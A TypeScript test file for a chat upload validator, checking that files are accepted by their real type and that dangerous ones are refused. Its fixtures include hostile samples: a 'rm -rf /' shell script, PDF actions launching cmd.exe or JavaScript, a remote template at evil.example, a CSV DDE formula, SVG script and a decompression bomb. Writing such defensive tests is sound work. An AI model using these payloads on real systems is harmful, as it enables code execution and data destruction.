import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import {
  docx,
  gif,
  jpeg,
  officeFile,
  pdf,
  pdfWithObjectStream,
  png,
  webp,
  zipOf,
} from '../../../test-support/sample-files.ts';
import { inspectFile } from './inspect-file.ts';

const utf8 = (text: string) => Buffer.from(text);
const inspected = (name: string, bytes: Uint8Array) => inspectFile(name, bytes);
const refusal = (name: string, bytes: Uint8Array) =>
  inspected(name, bytes).then(
    ({ contentType }) => `accepted as ${contentType}`,
    (error: Error) => (error.name === 'FileRefused' ? error.message : Promise.reject(error)),
  );

const office = 'application/vnd.openxmlformats-officedocument';
const accepted: [what: string, name: string, bytes: Buffer, contentType: string, named: string, size?: number[]][] = [
  ['a PNG', 'photo.png', png(40, 30), 'image/png', 'photo.png', [40, 30]],
  ['a PNG that is called a JPEG', 'photo.jpg', png(40, 30), 'image/png', 'photo.png', [40, 30]],
  ['a JPEG', 'Foto.JPG', jpeg(640, 480), 'image/jpeg', 'Foto.JPG', [640, 480]],
  ['a GIF', 'a.gif', gif(3, 2), 'image/gif', 'a.gif', [3, 2]],
  ['a WebP', 'a.webp', webp(320, 200), 'image/webp', 'a.webp', [320, 200]],
  ['a PDF', 'bill.pdf', pdf(), 'application/pdf', 'bill.pdf'],
  ['a PDF whose objects are packed', 'b.pdf', pdfWithObjectStream('<< /Type /Page >>'), 'application/pdf', 'b.pdf'],
  ['a PDF that opens on a page', 'b.pdf', pdf('/OpenAction [3 0 R /Fit]'), 'application/pdf', 'b.pdf'],
  ['a Word document', 'a.docx', docx(), `${office}.wordprocessingml.document`, 'a.docx'],
  ['a table', 'a.xlsx', officeFile('xl/workbook.xml'), `${office}.spreadsheetml.sheet`, 'a.xlsx'],
  ['slides', 'a.pptx', officeFile('ppt/presentation.xml'), `${office}.presentationml.presentation`, 'a.pptx'],
  [
    'an OpenDocument text',
    'a.odt',
    zipOf({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<a/>' }),
    'application/vnd.oasis.opendocument.text',
    'a.odt',
  ],
  ['a text', 'notes', utf8('Grüße'), 'text/plain', 'notes.txt'],
  ['a text in an old encoding', 'notes.txt', Buffer.from('Gr\xfc\xdfe', 'latin1'), 'text/plain', 'notes.txt'],
  ['a text that speaks of tags', 'how.txt', utf8('Put <script> before </body>.'), 'text/plain', 'how.txt'],
  ['a CSV', 'a.csv', utf8('name,price\nHat,=1+2'), 'text/csv', 'a.csv'],
  // Its first bytes say GIF: it is only ever served as one, with `nosniff`.
  [
    'a GIF with a page in it',
    'a.gif',
    Buffer.concat([gif(1, 1), utf8('<html><script>alert(1)</script>')]),
    'image/gif',
    'a.gif',
    [1, 1],
  ],
];

const damagedDirectory = Buffer.concat([docx(), utf8('<html>')]);
const packedScript = '<< /S /JavaScript /JS (app.alert(1)) >>';
const remoteTemplate =
  '<Relationships><Relationship Id="1" Type="http://x/relationships/attachedTemplate" Target="https://evil.example/a>b.dotm" TargetMode="External"/></Relationships>';

const refused: [what: string, name: string, bytes: Buffer, reason: RegExp][] = [
  ['a page', 'a.txt', utf8('\n <!DOCTYPE html><p>Hi'), /Web pages/],
  ['a page behind comments', 'a.txt', utf8('<!-- a --> <!-- b -->\n<HTML>'), /Web pages/],
  ['an SVG', 'a.png', utf8('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), /SVG/],
  ['an SVG behind its declaration', 'a.txt', utf8('\ufeff<?xml version="1.0"?><svg/>'), /SVG/],
  ['a text that is called a page', 'a.html', utf8('Hello'), /Programs/],
  ['a text that is called a script', 'a.js', utf8('Hello'), /Programs/],
  ['a script by two endings', 'photo.png.cmd. ', utf8('Hello'), /Programs/],
  ['a shell script', 'a.txt', utf8('#!/bin/sh\nrm -rf /'), /Programs/],
  ['a program', 'photo.png', Buffer.from('MZ\x90\0\x03', 'latin1'), /Programs/],
  ['a program of Linux', 'a', Buffer.from('\x7fELF\x02', 'latin1'), /Programs/],
  ['an archive', 'a.zip', zipOf({ 'a.txt': 'Hello' }), /Archives/],
  ['an archive called a document', 'a.docx', zipOf({ 'a.txt': 'Hello' }), /Archives/],
  ['a packed file', 'a.gz', Buffer.from('\x1f\x8b\x08', 'latin1'), /Archives/],
  ['an old Office file', 'a.doc', Buffer.from('\xd0\xcf\x11\xe0\xa1', 'latin1'), /Old Office/],
  ['unknown bytes', 'a.txt', Buffer.from([1, 2, 3, 0, 255]), /type of file/],
  ['a document with macros', 'a.docx', docx({ 'word/vbaProject.bin': 'x' }), /macros/],
  [
    'a document whose types name macros',
    'a.docx',
    docx({ '[Content_Types].xml': '<a b="x.macroEnabled.main+xml"/>' }),
    /macros/,
  ],
  ['a document with a program', 'a.docx', docx({ 'word/media/run.exe': 'MZ' }), /programs or pages/],
  [
    'a document with a remote template',
    'a.docx',
    docx({ 'word/_rels/settings.xml.rels': remoteTemplate }),
    /elsewhere/,
  ],
  ['a document with a page behind it', 'a.docx', damagedDirectory, /damaged/],
  [
    'macros of OpenDocument',
    'a.odt',
    zipOf({ mimetype: 'application/vnd.oasis.opendocument.text', 'Basic/a.xml': '' }),
    /macros/,
  ],
  ['a PDF with a script', 'a.pdf', pdf(`/OpenAction ${packedScript}`), /scripts or actions/],
  ['a PDF with an escaped name', 'a.pdf', pdf('/OpenAction << /S /J#61vaScript >>'), /scripts or actions/],
  ['a PDF with only an escaped entry', 'a.pdf', pdf('/AA << /#4aS (x) >>'), /scripts or actions/],
  ['a PDF that starts a program', 'a.pdf', pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), /scripts or actions/],
  ['a PDF with files inside', 'a.pdf', pdf('/Names << /EmbeddedFiles 5 0 R >>'), /other files/],
  ['a PDF with a packed script', 'a.pdf', pdfWithObjectStream(packedScript), /scripts or actions/],
  [
    'a PDF with objects packed otherwise',
    'a.pdf',
    pdf('', '<< /Type /ObjStm /Filter /LZWDecode >> stream\nabc\nendstream'),
    /cannot be checked/,
  ],
  ['a protected PDF', 'a.pdf', pdf('/Encrypt 7 0 R'), /protected/],
  [
    'a PDF that unpacks without end',
    'a.pdf',
    pdf(
      '',
      Buffer.concat([
        utf8('<< /Filter /FlateDecode >> stream\n'),
        deflateSync(Buffer.alloc(70 * 1024 * 1024)),
        utf8('\nendstream'),
      ]),
    ),
    /unpack/,
  ],
  ['an image of too many pixels', 'a.png', png(15_000, 15_000), /pixels/],
  ['an image that is too long', 'a.gif', gif(60_000, 1), /pixels/],
  ['an image without a size', 'a.png', png(0, 5), /damaged/],
  ['an image that is cut', 'a.jpg', jpeg(10, 10).subarray(0, 6), /damaged/],
  ['a table that starts programs', 'a.csv', utf8("a,b\n1,=cmd|' /C calc'!A0"), /formulas/],
];

describe('files that are sent in live chat', () => {
  test.each(accepted)('%s is accepted as what its bytes are', async (_, name, bytes, contentType, named, size) => {
    const [width = null, height = null] = size ?? [];
    expect(await inspected(name, bytes)).toEqual({ name: named, contentType, width, height });
  });

  test.each(refused)('%s is refused with its reason', async (_, name, bytes, reason) => {
    expect(await refusal(name, bytes)).toMatch(reason);
  });
});
